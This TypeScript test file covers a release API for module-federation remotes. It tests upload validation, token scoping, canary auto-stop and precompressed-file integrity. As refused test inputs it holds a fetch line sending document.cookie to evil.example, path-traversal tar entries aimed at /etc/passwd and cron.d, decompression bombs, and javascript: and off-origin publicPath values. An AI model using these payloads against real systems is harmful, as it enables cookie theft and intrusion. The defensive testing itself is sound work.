import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { brotliCompressSync, brotliDecompressSync, constants as zlib, gunzipSync, gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { packArchive, readFolder } from '../src/modules/release/archive';
import { DEFAULT_ARCHIVE_LIMITS } from '../src/modules/release/settings';
import { createToken } from '../src/modules/release/tokens';
import { call, createTestApp, type TestApp } from './helpers';
import { fakeBuild, writeShell, type FakeBuildOptions } from './release-fixtures';

/**
 * The release API on one node: on SQLite the node's deploy folder is the store, with DATABASE_URL
 * the shared database. Uploads are checked as the release tool checks a folder; malformed ones are
 * refused whole with a localised reason; tokens act on their own remote only; beacons stop a
 * failing canary, and one network cannot.
 */
let t: TestApp;
let deploy: string;
let builds: string;
let publicToken: string;

/** This deployment's origin: the one a version's publicPath may name besides `auto`. */
const APP_URL = 'https://lpk.example';
const limits = { ...DEFAULT_ARCHIVE_LIMITS, maxBytes: 256 * 1024, maxFiles: 20, maxFileBytes: 64 * 1024 };

beforeAll(async () => {
  deploy = mkdtempSync(path.join(tmpdir(), 'lpk-release-api-'));
  builds = mkdtempSync(path.join(tmpdir(), 'lpk-release-builds-'));
  writeShell(deploy);
  t = await createTestApp({
    appUrl: APP_URL,
    site: { staticDir: deploy, apiBaseUrl: '', wsHost: '', chatUrl: '', gtmId: '' },
    release: { archive: limits, cacheBytes: 1024 * 1024, canaryStop: { enabled: true, percent: 5, minLoads: 20, windowMs: 600_000 }, s3: undefined },
  });
  publicToken = (await createToken(t.app.db, 'mf-public', 'public team CI')).token;
});

afterAll(async () => {
  await t.close();
  rmSync(deploy, { recursive: true, force: true });
  rmSync(builds, { recursive: true, force: true });
});

async function archiveOf(version: string, options: FakeBuildOptions = {}): Promise<Buffer> {
  return packArchive(await readFolder(fakeBuild(builds, 'mf-public', version, options)));
}

/** A .tar.gz with the given raw entries (what a hand-made or hostile archive may hold). */
async function rawArchive(entries: Array<{ name: string; type?: 'file' | 'symlink' | 'directory'; content?: string; linkname?: string }>): Promise<Buffer> {
  const tar = pack();
  const chunks: Buffer[] = [];
  tar.on('data', (chunk: unknown) => chunks.push(chunk as Buffer));
  const done = new Promise<void>((resolve) => tar.on('end', () => resolve()));
  for (const entry of entries) {
    if (entry.type === 'symlink') tar.entry({ name: entry.name, type: 'symlink', linkname: entry.linkname ?? '/etc/passwd' });
    else if (entry.type === 'directory') tar.entry({ name: entry.name, type: 'directory' });
    else tar.entry({ name: entry.name }, entry.content ?? 'x');
  }
  tar.finalize();
  await done;
  return gzipSync(Buffer.concat(chunks));
}

const upload = (version: string, body: Buffer, options: { token?: string; lang?: string; remote?: string } = {}) =>
  t.app.inject({
    method: 'POST',
    url: `/api/lpk/release/${options.remote ?? 'mf-public'}/versions/${version}`,
    headers: {
      'content-type': 'application/gzip',
      authorization: `Bearer ${options.token ?? publicToken}`,
      ...(options.lang ? { 'accept-language': options.lang } : {}),
    },
    payload: body,
  });

describe('release API', () => {
  test('publishes an upload: the first version is stable, served from the store with its cache policy', async () => {
    const res = await upload('1.0.0', await archiveOf('1.0.0'));
    expect(res.statusCode).toBe(201);
    expect(res.json().data.message).toBe('published mf-public@1.0.0 as stable (first version)');
    expect(res.json().data.remote).toMatchObject({ remote: 'mf-public', stable: '1.0.0', canary: null, problems: { '1.0.0': [] } });
    const entry = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/1.0.0/remoteEntry.js' });
    expect(entry.statusCode).toBe(200);
    expect(entry.body).toBe('var mf_public; /* mf-public 1.0.0 */');
    expect(entry.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    const rollout = await t.app.inject({ method: 'GET', url: '/rollout.json' });
    expect(rollout.headers['cache-control']).toBe('no-cache');
    expect(rollout.json().remotes['mf-public'].stable).toBe('1.0.0');
    // Versions are immutable.
    const again = await upload('1.0.0', await archiveOf('1.0.0'), { lang: 'en' });
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toContain('already published');
  });

  test('refuses, whole and with the reason, what the release tool refuses in a folder (localised)', async () => {
    const react20 = await upload('2.0.0', await archiveOf('2.0.0', { react: '^20.0.0' }));
    expect(react20.statusCode).toBe(422);
    expect(react20.json().message).toBe('Ditolak: mf-public@2.0.0 tidak dapat disajikan.');
    expect(react20.json().errors.release).toEqual(['singleton bersama react membutuhkan ^20.0.0, shell menyediakan 19.3.1.']);
    const chunkless = await upload('2.0.1', await archiveOf('2.0.1', { skipChunk: true }), { lang: 'en' });
    expect(chunkless.json().errors.release).toEqual(['1 file(s) missing: 707.deadbeef.js.']);
    const copied = await upload('2.0.2', await archiveOf('2.0.2', { buildVersion: '1.0.0' }), { lang: 'en' });
    expect(copied.json().errors.release[0]).toContain('holds a build of version 1.0.0');
    // Nothing of a refused upload is stored or served.
    expect((await t.app.inject({ method: 'GET', url: '/remotes/mf-public/2.0.0/remoteEntry.js' })).statusCode).toBe(404);
    const status = await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken });
    expect(status.body.data.remotes[0].published).toEqual(['1.0.0']);
  });

  test.each([
    ['not an archive', () => Promise.resolve(Buffer.from('hello')), 'The upload is not a gzip-compressed tar archive (.tar.gz).', undefined],
    ['a cut archive', async () => (await archiveOf('3.0.0')).subarray(0, 200), 'The archive is damaged or cut short.', undefined],
    ['a path out of the folder', () => rawArchive([{ name: '../../etc/cron.d/x' }]), 'not allowed: ../../etc/cron.d/x', undefined],
    ['an absolute path', () => rawArchive([{ name: '/etc/passwd' }]), 'not allowed: /etc/passwd', undefined],
    ['a hidden file', () => rawArchive([{ name: '.env' }]), 'not allowed: .env', undefined],
    ['a link', () => rawArchive([{ name: 'remoteEntry.js', type: 'symlink' }]), 'remoteEntry.js, which is not a plain file', undefined],
    ['a file twice', () => rawArchive([{ name: 'a.js' }, { name: './a.js' }]), 'a.js twice', undefined],
    ['too many files', () => rawArchive(Array.from({ length: 21 }, (_, i) => ({ name: `f${i}.js` }))), 'more than 20 files', undefined],
    ['a file too large', () => rawArchive([{ name: 'big.js', content: 'x'.repeat(70 * 1024) }]), 'big.js is larger than', undefined],
    ['a gzip bomb', () => Promise.resolve(gzipSync(Buffer.alloc(20 * 1024 * 1024))), undefined, 'The upload'],
  ])('refuses %s with a clear message, and keeps serving', async (_name, make, line, message) => {
    const res = await upload('3.0.0', await make(), { lang: 'en' });
    expect([413, 422]).toContain(res.statusCode);
    const body = res.json() as { message: string; errors?: { release: string[] } };
    if (line) expect(body.errors?.release.join(' ')).toContain(line);
    if (message) expect(`${body.message} ${body.errors?.release.join(' ') ?? ''}`).toContain(message);
    expect((await t.app.inject({ method: 'GET', url: '/health/live' })).statusCode).toBe(200);
  });

  test('an upload over the size limit is refused before it is read (413)', async () => {
    const res = await upload('3.0.1', Buffer.alloc(limits.maxBytes + 1, 1), { lang: 'en' });
    expect(res.statusCode).toBe(413);
  });

  test('401 without a live token, 403 on another remote; the token never appears in an answer', async () => {
    const none = await call(t.app, 'GET', '/api/lpk/release/status');
    expect(none.status).toBe(401);
    expect(none.body.message).toBe('Token rilis tidak valid atau sudah dicabut.');
    const wrong = await call(t.app, 'POST', '/api/lpk/release/mf-public/rollback', { token: `${publicToken.slice(0, -1)}x`, lang: 'en' });
    expect(wrong.status).toBe(401);
    const session = await call(t.app, 'POST', '/api/lpk/login', { body: { email: 'caregiver@demo.test', password: 'Caregiver#2026' } });
    expect((await call(t.app, 'GET', '/api/lpk/release/status', { token: session.body.data.token })).status).toBe(401);
    const other = await upload('1.0.0', await archiveOf('1.0.0'), { remote: 'mf-account', lang: 'en' });
    expect(other.statusCode).toBe(403);
    expect(other.json().message).toBe('This deploy token is for mf-public, not mf-account.');
    expect((await call(t.app, 'GET', '/api/lpk/release/history?remote=mf-account', { token: publicToken })).status).toBe(403);
    expect(JSON.stringify(other.json())).not.toContain(publicToken);
  });

  test('one network reporting failures over and over cannot stop a canary; failures from more networks than the threshold do', async () => {
    expect((await upload('1.1.0', await archiveOf('1.1.0'))).statusCode).toBe(201);
    const started = await call(t.app, 'POST', '/api/lpk/release/mf-public/canary', { token: publicToken, body: { version: '1.1.0', percent: 50 } });
    expect(started.status).toBe(200);
    const beacon = (kind: 'loads' | 'failures', address: string, version = '1.1.0') =>
      t.app.inject({
        method: 'POST',
        url: `/api/lpk/rollout/${kind}`,
        remoteAddress: address,
        headers: { 'content-type': 'text/plain;charset=UTF-8' },
        payload: JSON.stringify({ remote: 'mf-public', version }),
      });
    // An attacker with one /24 (many addresses, many reports) and no real traffic yet.
    for (let i = 1; i <= 25; i += 1) await beacon('failures', `203.0.113.${i}`);
    expect((await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken })).body.data.remotes[0].canary?.version).toBe('1.1.0');
    // Reports about a version that is not the running canary count for nothing.
    expect((await beacon('loads', '198.51.100.1', '9.9.9')).json().data.counted).toBe(false);
    // Real traffic: 40 networks loaded it; one of them also failed (2 of 41 with the attacker's: 4.9 %, not past 5 %).
    for (let n = 0; n < 40; n += 1) await beacon('loads', `10.${n}.1.1`);
    await beacon('failures', '10.0.1.1');
    const figures = (await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken })).body.data.remotes[0];
    expect(figures.canary_reports).toMatchObject({ loads: 41, failures: 2 });
    expect(figures.canary?.version).toBe('1.1.0');
    // A third failing network: 3 of 42 (7.1 %).
    await beacon('failures', '2001:db8:1234:5::1');
    const stopped = (await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken, lang: 'en' })).body.data.remotes[0];
    expect(stopped.canary).toBeNull();
    expect(stopped.stopped.reason).toContain('3 of 42 networks (7.1 %)');
    const history = await call(t.app, 'GET', '/api/lpk/release/history?limit=1', { token: publicToken });
    expect(history.body.data.items[0]).toMatchObject({ actor: 'automatic', command: 'auto-stop', result: 'ok', version: '1.1.0', stable_after: '1.0.0' });
  });
});

/** A build's files (as --from reads them) changed by `edit`, as the .tar.gz a CI would upload. */
async function editedArchive(version: string, options: FakeBuildOptions, edit: (files: Map<string, Buffer>) => void): Promise<Buffer> {
  const files = await readFolder(fakeBuild(builds, 'mf-public', version, options));
  edit(files);
  return packArchive(files);
}

const EVIL = Buffer.from('fetch("https://evil.example/?c=" + document.cookie)');

describe('release integrity', () => {
  test('precompressed copies that decompress to their file are kept, and a browser that accepts them gets exactly the checked bytes', async () => {
    const res = await upload('4.0.0', await archiveOf('4.0.0', { precompress: true, publicPath: 'auto' }));
    expect(res.statusCode).toBe(201);
    const plain = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.0.0/remoteEntry.js' });
    for (const [encoding, inflate] of [
      ['br', brotliDecompressSync],
      ['gzip', gunzipSync],
    ] as const) {
      const sent = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.0.0/remoteEntry.js', headers: { 'accept-encoding': encoding } });
      expect(sent.statusCode).toBe(200);
      expect(sent.headers['content-encoding']).toBe(encoding);
      expect(inflate(sent.rawPayload).equals(plain.rawPayload)).toBe(true);
    }
  });

  test.each([
    ['a brotli copy of other JavaScript', 'remoteEntry.js.br', (f: Map<string, Buffer>) => f.set('remoteEntry.js.br', brotliCompressSync(EVIL))],
    ['a gzip copy of other JavaScript', 'remoteEntry.js.gz', (f: Map<string, Buffer>) => f.set('remoteEntry.js.gz', gzipSync(EVIL))],
    [
      'a copy with something appended',
      '707.deadbeef.js.gz',
      (f: Map<string, Buffer>) => f.set('707.deadbeef.js.gz', gzipSync(Buffer.concat([f.get('707.deadbeef.js')!, EVIL]))),
    ],
    ['a damaged copy', '707.deadbeef.js.br', (f: Map<string, Buffer>) => f.set('707.deadbeef.js.br', Buffer.from('not brotli at all'))],
    ['a copy without its original', 'extra.js.br', (f: Map<string, Buffer>) => f.set('extra.js.br', brotliCompressSync(EVIL))],
    [
      'a decompression bomb (40 MB of brotli in a few bytes)',
      'remoteEntry.js.br',
      (f: Map<string, Buffer>) =>
        f.set('remoteEntry.js.br', brotliCompressSync(Buffer.alloc(40 * 1024 * 1024), { params: { [zlib.BROTLI_PARAM_QUALITY]: 1 } })),
    ],
  ])('refuses %s with a 422 naming the file (localised), and stores and serves nothing of it', async (_name, file, edit) => {
    const archive = await editedArchive('4.1.0', { precompress: true }, edit);
    const started = Date.now();
    const en = await upload('4.1.0', archive, { lang: 'en' });
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(en.statusCode).toBe(422);
    expect(en.json().message).toBe('Refused: mf-public@4.1.0 cannot be served.');
    expect(en.json().errors.release.join(' ')).toContain(file);
    const id = await upload('4.1.0', archive);
    expect(id.statusCode).toBe(422);
    expect(id.json().errors.release.join(' ')).toMatch(new RegExp(`${file.replace(/\./g, '\\.')} (tidak terdekompresi|adalah salinan terkompresi)`));
    for (const encoding of ['br', 'gzip', 'identity']) {
      const served = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.1.0/remoteEntry.js', headers: { 'accept-encoding': encoding } });
      expect(served.statusCode).toBe(404);
    }
    const status = await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken });
    expect(status.body.data.remotes[0].published).not.toContain('4.1.0');
  });

  test.each([
    'https://evil.example/',
    '//evil.example/remotes/',
    '/\\evil.example/',
    'https://lpk.example.evil.example/',
    'https://lpk.example@evil.example/',
    'http://lpk.example/',
    'javascript:alert(1)//',
    'remotes/mf-public/',
    ' /remotes/',
  ])('refuses a manifest whose publicPath is %j (422 naming it, localised)', async (publicPath) => {
    const archive = await archiveOf('5.0.0', { publicPath });
    const en = await upload('5.0.0', archive, { lang: 'en' });
    expect(en.statusCode).toBe(422);
    expect(en.json().errors.release).toEqual([expect.stringContaining(`manifest publicPath "${publicPath}" is refused`)]);
    const id = await upload('5.0.0', archive);
    expect(id.json().errors.release).toEqual([expect.stringContaining(`publicPath manifes "${publicPath}" ditolak`)]);
    expect((await t.app.inject({ method: 'GET', url: '/remotes/mf-public/5.0.0/remoteEntry.js' })).statusCode).toBe(404);
  });

  test('refuses getPublicPath (code the federation runtime would evaluate in every browser)', async () => {
    const res = await upload('5.0.1', await archiveOf('5.0.1', { getPublicPath: 'function(){return "https://evil.example/"}' }), { lang: 'en' });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors.release[0]).toContain('publicPath "getPublicPath" is refused');
  });

  test.each([
    ['5.1.0', 'auto'],
    ['5.1.1', '/remotes/mf-public/5.1.1/'],
    ['5.1.2', `${APP_URL}/remotes/mf-public/5.1.2/`],
  ])('accepts %s with publicPath %j (same origin)', async (version, publicPath) => {
    const res = await upload(version, await archiveOf(version, { publicPath }));
    expect(res.statusCode).toBe(201);
  });
});
